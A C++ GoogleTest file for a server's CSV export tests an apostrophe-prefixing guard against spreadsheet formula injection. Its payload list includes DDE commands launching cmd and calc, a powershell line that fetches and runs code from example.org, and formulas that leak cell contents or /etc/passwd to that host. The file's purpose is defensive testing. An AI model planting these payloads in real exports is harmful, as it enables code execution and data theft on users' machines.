// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "server/report/csv.h"
#include "tests/server/report/report_support.h"

namespace baraza::server {
namespace {

// Texts that a spreadsheet would run, as they are known from attacks on others' exports.
const std::vector<std::string> kFromTheStart = {
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget example.org/x)'!A0",
    "=HYPERLINK(\"http://example.org/?x=\"&A1,\"click\")",
    "=HYPERLINK(\"http://example.org?leak=\"&A1&A2, \"Error: please click\")",
    "=IMPORTXML(CONCAT(\"http://example.org/?v=\", CONCATENATE(A2:E2)), \"//a/a10\")",
    "=IMPORTFEED(\"http://example.org/\")",
    "=IMPORTHTML(\"http://example.org/\",\"table\",1)",
    "=IMPORTRANGE(\"http://example.org/\", \"Sheet1!A1:B10\")",
    "=IMAGE(\"https://example.org/?v=\" & JOIN(\",\", B3:B99))",
    "=WEBSERVICE(\"http://example.org/\"&A1)",
    "='file:///etc/passwd'#$passwd.A1",
    "=WEBSERVICE(CONCATENATE(\"http://example.org/\",('file:///etc/passwd'#$passwd.A1)))",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "==1+1",
    "= 1+1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-illness",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@A1",
    "=",
    "+",
    "-",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1+1",
    "   @SUM(1)",
    "\"=1+1",
    "\"\"=1+1",
    " \" =1+1",
    "\xC2\xA0=1+1",      // no-break space
    "\xE3\x80\x80=1+1",  // ideographic space
    "\xE2\x80\x8B=1+1",  // zero-width space
    "\xEF\xBB\xBF=1+1",  // byte order mark
    "\xEF\xBC\x9D"
    "1+1",  // full-width =
    "\xEF\xBC\x8B"
    "1+1",  // full-width +
    "\xEF\xBC\x8D"
    "1+1",                 // full-width -
    "\xEF\xBC\xA0SUM(1)",  // full-width @
    "\xEF\xB9\xA6"
    "1+1",  // small =
    "\xEF\xB9\xA2"
    "1+1",  // small +
    "\xEF\xB9\xA3"
    "1+1",                 // small -
    "\xEF\xB9\xABSUM(1)",  // small @
};

TEST(Formulas, NoneBeginsACell) {
  for (const std::string& payload : kFromTheStart) {
    SCOPED_TRACE(payload);
    const std::string guarded = guard_formula(payload);
    ASSERT_FALSE(guarded.empty());
    EXPECT_EQ(guarded[0], '\'');
    EXPECT_NE(guarded.find_first_not_of('\''), std::string::npos);
  }
}

TEST(Formulas, TheGuardAddsApostrophesAndTakesNothingAway) {
  for (const std::string& payload : kFromTheStart) {
    std::string without = guard_formula(payload);
    std::string original = payload;
    std::erase(without, '\'');
    std::erase(original, '\'');
    EXPECT_EQ(without, original);
  }
}

TEST(Formulas, NoneBeginsACellWhereTheSemicolonParts) {
  EXPECT_EQ(guard_formula("late;=1+1"), "late;'=1+1");
  EXPECT_EQ(guard_formula("late; @SUM(1)"), "late;' @SUM(1)");
  EXPECT_EQ(guard_formula("late;\"=1+1"), "late;'\"=1+1");
  EXPECT_EQ(guard_formula("late\t+1"), "late\t'+1");
  EXPECT_EQ(guard_formula("late\n-1"), "late\n'-1");
  EXPECT_EQ(guard_formula("late\r\n=1"), "late\r\n'=1");
  EXPECT_EQ(guard_formula("=1;=2"), "'=1;'=2");
}

TEST(Formulas, OtherTextsStayAsTheyAre) {
  for (const std::string text :
       {"", "funeral", "illness, then travel", "a=b", "well-known", "late by 5+", "x@example.org",
        "5", "3 - 4", "'quoted'", "Mbale \"east\"", "(=1+1)", "é", "ill; better now", "2026-03-02",
        "one\ntwo", " leading blank"}) {
    EXPECT_EQ(guard_formula(text), text);
  }
}

TEST(Formulas, NoneGetsThroughAnExport) {
  for (const std::string& payload : kFromTheStart) {
    SCOPED_TRACE(payload);
    test::GroupStory story;
    GroupContext context = story.context();
    context.group_name = payload;
    context.site_name = payload;
    model::MainState state = story.state();
    for (auto& [key, marks] : state.attendance) {
      for (auto& write : marks.writes) write.value.reason = payload;
    }
    for (auto& [ref, write] : state.check_ins) write.value.language = payload;
    test::MemorySource source;
    source.add(context, state);
    test::StringSink attendance, mood;
    ASSERT_TRUE(export_attendance(source, attendance, {}).has_value());
    ASSERT_TRUE(export_mood(source, test::shipped_library(), mood, {}).has_value());
    int guarded = 0;
    for (const std::string* table : {&attendance.text, &mood.text}) {
      for (const auto& row : test::read_csv(*table)) {
        for (const std::string& cell : row) {
          EXPECT_EQ(guard_formula(cell).size(), cell.size()) << cell;
          if (cell == guard_formula(payload)) ++guarded;
        }
      }
    }
    EXPECT_GT(guarded, 50);
  }
}

}  // namespace
}  // namespace baraza::server
